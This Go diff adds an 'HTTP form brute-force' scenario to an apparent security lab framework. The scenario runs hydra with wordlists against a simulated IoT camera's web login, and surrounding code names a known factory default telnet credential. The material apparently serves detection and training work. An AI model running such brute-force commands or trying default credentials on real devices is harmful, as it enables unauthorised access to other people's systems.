@@ -60,6 +60,21 @@ func init() {
 			},
 		},
 		&Scenario{
+			Name: "bruteforce-http-form", Difficulty: Easy,
+			Description: "hydra guesses the IoT hub's web admin login form (user name and password POSTed to " + iotWebLogin +
+				", which shows the form again with \"" + iotWebFailed + "\" for a wrong pair) and finds the camera's factory default " +
+				iotWebUser + "/" + iotWebPassword + ".",
+			Tools: []string{"hydra"}, Classes: []string{"bruteforce.http", "iot.default_creds"}, MITRE: []string{"T1110.001", "T1078.001"},
+			Attacker: hostPtr(hostAtk), Victims: v4(hostIoT), Duration: 25 * time.Second,
+			Notes: "a wrong pair gets status 200 (the form again) and a right one a redirect: http.log's status codes alone show no failure; " +
+				"the camera's web server runs in the lab's process (internal/lab/iotweb.go)",
+			attack: func(a *attackRun) error {
+				return a.runUpTo(hostAtk, a.duration, "hydra", "-I", "-t", "4", "-f",
+					"-L", a.w.path("words/users.txt"), "-P", a.w.path("words/passwords.txt"), hostIoT.IPv4().String(),
+					"http-post-form", iotWebLogin+":username=^USER^&password=^PASS^:F="+iotWebFailed)
+			},
+		},
+		&Scenario{
 			Name: "bruteforce-telnet", Difficulty: Easy,
 			Description: "hydra guesses telnet passwords of the IoT hub's telnet service and finds the factory default root/xc3511.",
 			Tools:       []string{"hydra"}, Classes: []string{"bruteforce.telnet", "iot.default_creds"}, MITRE: []string{"T1110.001", "T1078.001"},
